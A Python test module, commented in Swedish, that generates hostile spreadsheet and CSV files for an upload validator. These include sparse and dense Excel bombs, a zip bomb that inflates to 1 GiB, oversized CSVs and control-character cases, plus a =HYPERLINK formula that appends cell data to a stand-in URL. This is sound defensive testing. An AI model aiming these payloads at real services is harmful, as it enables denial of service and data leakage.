"""Fientliga filer för uppladdningen: Excel-bomber (glesa och täta), zip-bomber, CSV med enorma rader,
många kolumner, ostängda citat, blandade kodningar, styrtecken och formler utan cachat värde.

Varje fil byggs av en egen funktion som returnerar (namn, innehåll, förväntan), så att en större korpus
kan återanvända dem (t.ex. med andra datamängder). `bygg(mapp)` skriver alla till en mapp.

    python -m tests.fientliga_filer /tmp/fientliga
"""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

RUBRIKER = ["Deltagar-id", "Plattform", "Kommun", "Kön", "Startdatum", "Slutdatum", "Avslutsorsak"]
RAD = ["VN-0001", "Vännäs", "Vännäs", "Kvinna", "2019-09-02", "2020-05-29", "Studier"]
RAD2 = ["VN-0002", "Vännäs", "Vännäs", "Man", "2020-01-13", "2020-11-30", "Arbete"]


@dataclass(frozen=True)
class Forvantan:
    """Vad produkten ska göra med filen. avvisas: ett InlasningsFel vars text innehåller varje del i delar
    (filens namn ingår alltid). Annars ska filen godtas (och rader ska bli så många rader)."""

    avvisas: bool
    delar: tuple[str, ...] = ()
    datamangd: str = "deltagare"
    rader: int | None = None
    argument: dict = field(default_factory=dict)


Fientlig = tuple[str, bytes, Forvantan]


def _csv(rader: list[list[str]], sep: str = ";") -> bytes:
    return "".join(sep.join(r) + "\n" for r in rader).encode("utf-8")


# ---------------------------------------------------------------- xlsx byggd för hand


def _kolumnbokstav(index: int) -> str:
    """0 -> A, 16383 -> XFD."""
    bokstaver = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        bokstaver = chr(65 + rest) + bokstaver
    return bokstaver


def _cell(ref: str, varde: str) -> str:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(varde)}</t></is></c>'


def _rad(nr: int, varden: list[str]) -> str:
    return f'<row r="{nr}">' + "".join(_cell(f"{_kolumnbokstav(i)}{nr}", v) for i, v in enumerate(varden)) + "</row>"


def xlsx_for_hand(bladdata: bytes | Iterator[bytes], dimension: str | None = None, bladnamn: str = "Deltagare",
                  extra: dict[str, bytes] | None = None, niva: int = 6,
                  bladpost: str = "xl/worksheets/sheet1.xml") -> bytes:
    """En minimal xlsx med ett blad. bladdata: innehållet i <sheetData> (bytes eller bitar som strömmas in i
    arkivet, så att stora blad inte behöver finnas i minnet)."""
    buffert = io.BytesIO()
    with zipfile.ZipFile(buffert, "w", zipfile.ZIP_DEFLATED, compresslevel=niva) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                   'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
                   '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
                   f'sheet.main+xml"/><Override PartName="/{bladpost}" ContentType="application/vnd.'
                   'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml",
                   '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
                   'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                   f'relationships"><sheets><sheet name="{bladnamn}" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/worksheet" ' f'Target="/{bladpost}"/></Relationships>')
        for namn, innehall in (extra or {}).items():
            z.writestr(namn, innehall)
        with z.open(bladpost, "w", force_zip64=True) as blad:
            blad.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                       b'spreadsheetml/2006/main">')
            if dimension:
                blad.write(f'<dimension ref="{dimension}"/>'.encode())
            blad.write(b"<sheetData>")
            for bit in [bladdata] if isinstance(bladdata, bytes) else bladdata:
                blad.write(bit)
            blad.write(b"</sheetData></worksheet>")
    return buffert.getvalue()


def _xlsxwriter(skriv: Callable) -> bytes:
    import xlsxwriter

    buffert = io.BytesIO()
    with xlsxwriter.Workbook(buffert) as bok:
        ark = bok.add_worksheet("Deltagare")
        skriv(bok, ark)
    return buffert.getvalue()


# ---------------------------------------------------------------- Excel-bomber


def xlsx_gles_bomb() -> Fientlig:
    """Sju rubrikceller och en cell i XFD1048576, med dimensionen deklarerad: 1,6 kB som blir 512 GiB."""
    data = (_rad(1, RUBRIKER) + '<row r="1048576">' + _cell("XFD1048576", "x") + "</row>").encode()
    return "gles_bomb.xlsx", xlsx_for_hand(data, "A1:XFD1048576"), Forvantan(True, ("fil gles_bomb.xlsx", "gräns"))


def xlsx_gles_bomb_ljuger() -> Fientlig:
    """Som den glesa bomben, men dimensionen påstår A1:G1: bara cellreferenserna avslöjar storleken."""
    data = (_rad(1, RUBRIKER) + '<row r="1048576">' + _cell("XFD1048576", "x") + "</row>").encode()
    return "gles_ljuger.xlsx", xlsx_for_hand(data, "A1:G1"), Forvantan(True, ("fil gles_ljuger.xlsx", "gräns"))


def xlsx_gles_bomb_utan_dimension() -> Fientlig:
    data = (_rad(1, RUBRIKER) + _rad(2, RAD) + '<row r="1048576">' + _cell("XFD1048576", "x") + "</row>").encode()
    return "gles_utan_dimension.xlsx", xlsx_for_hand(data), Forvantan(True, ("fil gles_utan_dimension.xlsx", "gräns"))


def xlsx_gles_bomb_annan_plats() -> Fientlig:
    """Bladet ligger utanför xl/worksheets/ (arbetsbokens relation pekar dit)."""
    data = (_rad(1, RUBRIKER) + '<row r="1048576">' + _cell("XFD1048576", "x") + "</row>").encode()
    return "gles_annan_plats.xlsx", xlsx_for_hand(data, "A1:G1", bladpost="gomt/blad.xml"), Forvantan(
        True, ("fil gles_annan_plats.xlsx", "gräns"))


def xlsx_gles_bomb_xlsxwriter() -> Fientlig:
    def skriv(bok, ark):
        ark.write_row(0, 0, RUBRIKER)
        ark.write_row(1, 0, RAD)
        ark.write_string(1048575, 16383, "x")
    return "gles_xlsxwriter.xlsx", _xlsxwriter(skriv), Forvantan(True, ("fil gles_xlsxwriter.xlsx", "gräns"))


def xlsx_gles_bomb_hog_rad() -> Fientlig:
    """Rubriker och en cell i G1048576 (inte många kolumner, men en miljon rader tomrum)."""
    data = (_rad(1, RUBRIKER) + '<row r="1048576">' + _cell("G1048576", "x") + "</row>").encode()
    return "gles_hog_rad.xlsx", xlsx_for_hand(data, "A1:G1048576"), Forvantan(
        True, ("fil gles_hog_rad.xlsx", "rad 1048576", "kolumn Avslutsorsak"))


def xlsx_tat_bomb() -> Fientlig:
    """Tät: 16 384 kolumner med värden i 400 rader (6,5 miljoner celler i några MB)."""
    def rader() -> Iterator[bytes]:
        for r in range(1, 401):
            yield (f'<row r="{r}">' + "".join(f'<c r="{_kolumnbokstav(k)}{r}"><v>1</v></c>' for k in range(16384))
                   + "</row>").encode()
    return "tat_bomb.xlsx", xlsx_for_hand(rader(), "A1:XFD400", niva=1), Forvantan(
        True, ("fil tat_bomb.xlsx", "gräns", "kolumner"))


def xlsx_tat_bomb_xlsxwriter() -> Fientlig:
    """Tät och skriven av xlsxwriter: 3 000 kolumner i 100 rader."""
    def skriv(bok, ark):
        for r in range(100):
            ark.write_row(r, 0, [1] * 3000)
    return "tat_xlsxwriter.xlsx", _xlsxwriter(skriv), Forvantan(True, ("fil tat_xlsxwriter.xlsx", "gräns", "kolumner"))


def xlsx_manga_celler() -> Fientlig:
    """Många rader med få kolumner men fler celler än gränsen tillåter i bladets dimension (200 kolumner ×
    1 048 576 rader), bara rubriken och sista raden finns."""
    data = (_rad(1, RUBRIKER) + '<row r="1048576">' + _cell("GR1048576", "x") + "</row>").encode()
    return "manga_celler.xlsx", xlsx_for_hand(data, "A1:GR1048576"), Forvantan(
        True, ("fil manga_celler.xlsx", "gräns"))


def xlsx_zip_bomb_delade_strangar() -> Fientlig:
    """En sharedStrings.xml som packas upp till 1 GiB (nollor komprimeras ca 1000:1)."""
    buffert = io.BytesIO()
    med = xlsx_for_hand((_rad(1, RUBRIKER) + _rad(2, RAD)).encode(), "A1:G2")
    with zipfile.ZipFile(io.BytesIO(med)) as gammal, zipfile.ZipFile(buffert, "w", zipfile.ZIP_DEFLATED,
                                                                       compresslevel=9) as z:
        for info in gammal.infolist():
            z.writestr(info.filename, gammal.read(info.filename))
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as s:
            s.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    b"<si><t>")
            noll = b"0" * (1 << 20)
            for _ in range(1024):
                s.write(noll)
            s.write(b"</t></si></sst>")
    return "zip_bomb.xlsx", buffert.getvalue(), Forvantan(True, ("fil zip_bomb.xlsx", "gräns", "zip-bomb"))


def xlsx_manga_poster() -> Fientlig:
    """20 000 tomma poster i arkivet."""
    buffert = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_for_hand((_rad(1, RUBRIKER) + _rad(2, RAD)).encode()))) as gammal, \
            zipfile.ZipFile(buffert, "w", zipfile.ZIP_STORED) as z:
        for info in gammal.infolist():
            z.writestr(info.filename, gammal.read(info.filename))
        for i in range(20_000):
            z.writestr(f"xl/media/bild{i}.png", b"")
    return "manga_poster.xlsx", buffert.getvalue(), Forvantan(True, ("fil manga_poster.xlsx", "gräns", "poster"))


def xlsx_formel_utan_varde() -> Fientlig:
    """Formel utan cachat värde i C3 (som när en fil skrivs av ett program utan beräkningsmotor)."""
    data = (_rad(1, RUBRIKER) + _rad(2, RAD)
            + '<row r="3"><c r="A3" t="inlineStr"><is><t>VN-0002</t></is></c>'
            + "".join(_cell(f"{k}3", v) for k, v in zip("B", ["Vännäs"]))
            + '<c r="C3" t="str"><f>B3</f></c>'
            + "".join(_cell(f"{k}3", v) for k, v in zip("DEFG", RAD2[3:])) + "</row>").encode()
    return "formel.xlsx", xlsx_for_hand(data, "A1:G3"), Forvantan(
        True, ("fil formel.xlsx", "blad Deltagare", "cell C3", "formel"))


def xlsx_styrtecken() -> Fientlig:
    def skriv(bok, ark):
        ark.write_row(0, 0, RUBRIKER)
        ark.write_row(1, 0, RAD)
        ark.write_row(2, 0, ["VN-\x010002", *RAD2[1:]])
    return "styrtecken.xlsx", _xlsxwriter(skriv), Forvantan(
        True, ("fil styrtecken.xlsx", "blad Deltagare", "rad 3", "kolumn Deltagar-id", "styrtecken"))


def xlsx_dubblerad_rubrik() -> Fientlig:
    def skriv(bok, ark):
        ark.write_row(0, 0, [*RUBRIKER[:4], "Kön", *RUBRIKER[4:]])
        ark.write_row(1, 0, [*RAD[:4], "Kvinna", *RAD[4:]])
    return "dubbel_rubrik.xlsx", _xlsxwriter(skriv), Forvantan(
        True, ("fil dubbel_rubrik.xlsx", "Kolumnen Kön finns två gånger (kolumn 4 och 5)"))


def xlsx_tomma_rader() -> Fientlig:
    """Tabellen börjar på rad 3 och har tomma rader; felet ska peka på samma rad som i Excel (rad 7)."""
    def skriv(bok, ark):
        ark.write_row(2, 0, RUBRIKER)
        ark.write_row(3, 0, RAD)
        ark.write_row(6, 0, [RAD2[0], "Umeåtorget", *RAD2[2:]])
    return "tomma_rader.xlsx", _xlsxwriter(skriv), Forvantan(
        True, ("fil tomma_rader.xlsx", "blad Deltagare, rad 7, kolumn Plattform", "Umeåtorget"))


def xlsx_giltig() -> Fientlig:
    """En vanlig fil som ska godtas (kontroll att skydden inte stoppar verkliga filer)."""
    def skriv(bok, ark):
        ark.write_row(0, 0, RUBRIKER)
        ark.write_row(1, 0, RAD)
        ark.write_row(2, 0, RAD2)
    return "giltig.xlsx", _xlsxwriter(skriv), Forvantan(False, rader=2)


# ---------------------------------------------------------------- CSV


def csv_enorm_rad() -> Fientlig:
    """En rad på 5 MB (utan radbrytning)."""
    return "enorm_rad.csv", _csv([RUBRIKER, ["VN-1" + "x" * 5_000_000, *RAD[1:]]]), Forvantan(
        True, ("fil enorm_rad.csv", "rad 2", "gräns"))


def csv_manga_kolumner() -> Fientlig:
    """100 000 kolumner med rubriker."""
    rubriker = RUBRIKER + [f"k{i}" for i in range(100_000)]
    return "manga_kolumner.csv", _csv([rubriker, RAD + ["1"] * 100_000]), Forvantan(
        True, ("fil manga_kolumner.csv", "gräns", "100 007 kolumner"))


def csv_manga_celler() -> Fientlig:
    """Fler celler än gränsen: 1 500 kolumner gånger 20 000 rader med tomma värden (30 MB)."""
    rad = b";" * 1499 + b"\n"
    rubrik = ";".join(RUBRIKER + [f"k{i}" for i in range(1493)]).encode() + b"\n"
    return "manga_celler.csv", rubrik + rad * 20_000, Forvantan(True, ("fil manga_celler.csv", "gräns", "celler"))


def csv_ostangt_citat() -> Fientlig:
    text = _csv([RUBRIKER, RAD]) + b'VN-0002;"Vann\xc3\xa4s;V\xc3\xa4nn\xc3\xa4s;Man;2020-01-13;;\n' + _csv([RAD2])
    return "ostangt.csv", text, Forvantan(True, ("fil ostangt.csv", "rad 3", "citattecken"))


def csv_ojamn_rad() -> Fientlig:
    return "ojamn.csv", _csv([RUBRIKER, RAD, RAD2 + ["extra", "mer"]]), Forvantan(
        True, ("fil ojamn.csv", "rad 3", "9 värden", "7 kolumner"))


def csv_ojamn_rad_efter_radbrytning_i_citat() -> Fientlig:
    """Rad 2 har en radbrytning inom citat (giltigt, en rad i kalkylprogrammet); rad 3 har ett värde för mycket.
    Felet ska peka på rad 3 (filens fjärde textrad)."""
    text = _csv([RUBRIKER]) + 'VN-0001;Vännäs;Vännäs;Kvinna;2019-09-02;2020-05-29;"Studier\npå distans"\n'.encode()
    text += _csv([RAD2 + ["extra"]])
    return "radbrytning.csv", text, Forvantan(True, ("fil radbrytning.csv", "rad 3", "8 värden"))


def csv_blandad_kodning() -> Fientlig:
    """UTF-8 på en rad och Windows-1252 på en annan: ska inte lagras som IntÃ¤kter."""
    text = _csv([RUBRIKER, RAD]) + ";".join(RAD2).replace("Vännäs", "Vindeln").encode("utf-8") + b"\n"
    text += "VN-0003;Vännäs;Vännäs;Man;2020-02-03;;\n".encode("cp1252")
    return "blandad.csv", text, Forvantan(True, ("fil blandad.csv", "rad 4", "teckenkodning"))


def csv_nul_i_id() -> Fientlig:
    text = _csv([RUBRIKER, RAD]) + b"VN-\x000002;" + ";".join(RAD2[1:]).encode() + b"\n"
    return "nul.csv", text, Forvantan(True, ("fil nul.csv", "rad 3", "kolumn Deltagar-id", "styrtecken"))


def csv_styrtecken() -> Fientlig:
    text = _csv([RUBRIKER, RAD, [RAD2[0], RAD2[1], "V\x1bnnäs", *RAD2[3:]]])
    return "styrtecken.csv", text, Forvantan(True, ("fil styrtecken.csv", "rad 3", "kolumn Kommun", "styrtecken"))


def csv_c1_styrtecken() -> Fientlig:
    """U+0085 (NEL, ett C1-styrtecken) i UTF-8 i ett id."""
    text = _csv([RUBRIKER, RAD, ["VN-\u00850002", *RAD2[1:]]])
    return "c1.csv", text, Forvantan(True, ("fil c1.csv", "rad 3", "kolumn Deltagar-id", "styrtecken"))


def csv_hyperlank_semikolon() -> Fientlig:
    """En giltig semikolonfil där en citerad cell innehåller kommatecken: ska läsas som semikolon. Deltagar-id
    med en formel godtas här (exporterna skriver den som text); kontrollen gäller avgränsaren."""
    formel = '"=HYPERLINK(""http://x/?d=""&A1,""Klicka här"")"'
    rader = [";".join(RUBRIKER), ";".join(RAD), ";".join([formel, *RAD2[1:]])]
    return "hyperlank.csv", ("\n".join(rader) + "\n").encode(), Forvantan(False, rader=2)


def csv_formel_med_tomt_argument() -> Fientlig:
    """Som hyperlänken, men formeln har ett tomt textargument (=IF(A1,"",B1)): csv.Sniffer gissade komma."""
    formel = '"=HYPERLINK(""http://x/?d=""&A1,""Klicka här"",""x"")"'
    rader = [";".join(RUBRIKER), ";".join(RAD), ";".join([formel, *RAD2[1:]])]
    return "tomt_argument.csv", ("\n".join(rader) + "\n").encode(), Forvantan(False, rader=2)


def csv_tomma_avslutande_kolumner() -> Fientlig:
    """1 000 tomma avgränsare i slutet av varje rad: tas bort tyst."""
    text = "".join(";".join(r) + ";" * 1000 + "\n" for r in [RUBRIKER, RAD, RAD2]).encode()
    return "avslutande.csv", text, Forvantan(False, rader=2)


def csv_dubblerad_rubrik() -> Fientlig:
    rubriker = [*RUBRIKER[:4], "Kön", *RUBRIKER[4:]]
    return "dubbel.csv", _csv([rubriker, [*RAD[:4], "Kvinna", *RAD[4:]]]), Forvantan(
        True, ("fil dubbel.csv", "Kolumnen Kön finns två gånger (kolumn 4 och 5)"))


def csv_rubriklos_kolumn_med_varden() -> Fientlig:
    return "rubriklos.csv", _csv([RUBRIKER + [""], RAD + ["hemligt"], RAD2 + [""]]), Forvantan(
        True, ("fil rubriklos.csv", "kolumn 8", "rubrik"))


def csv_giltig_windows_1252() -> Fientlig:
    return "ansi.csv", "".join(";".join(r) + "\r\n" for r in [RUBRIKER, RAD, RAD2]).encode("cp1252"), Forvantan(
        False, rader=2)


ALLA: list[Callable[[], Fientlig]] = [
    xlsx_gles_bomb, xlsx_gles_bomb_ljuger, xlsx_gles_bomb_utan_dimension, xlsx_gles_bomb_annan_plats,
    xlsx_gles_bomb_xlsxwriter, xlsx_gles_bomb_hog_rad, xlsx_tat_bomb, xlsx_tat_bomb_xlsxwriter, xlsx_manga_celler,
    xlsx_zip_bomb_delade_strangar, xlsx_manga_poster, xlsx_formel_utan_varde, xlsx_styrtecken,
    xlsx_dubblerad_rubrik, xlsx_tomma_rader, xlsx_giltig, csv_enorm_rad, csv_manga_kolumner, csv_manga_celler,
    csv_ostangt_citat, csv_ojamn_rad, csv_ojamn_rad_efter_radbrytning_i_citat, csv_blandad_kodning, csv_nul_i_id,
    csv_styrtecken, csv_c1_styrtecken, csv_hyperlank_semikolon, csv_formel_med_tomt_argument,
    csv_tomma_avslutande_kolumner, csv_dubblerad_rubrik, csv_rubriklos_kolumn_med_varden, csv_giltig_windows_1252,
]


def bygg(mapp: Path) -> dict[str, Forvantan]:
    """Skriver alla filer till mappen; returnerar förväntan per filnamn."""
    mapp.mkdir(parents=True, exist_ok=True)
    forvantningar = {}
    for funktion in ALLA:
        namn, innehall, forvantan = funktion()
        (mapp / namn).write_bytes(innehall)
        forvantningar[namn] = forvantan
    return forvantningar


if __name__ == "__main__":
    for namn, f in bygg(Path(sys.argv[1] if len(sys.argv) > 1 else "fientliga")).items():
        print(namn, "avvisas" if f.avvisas else "godtas", *f.delar)
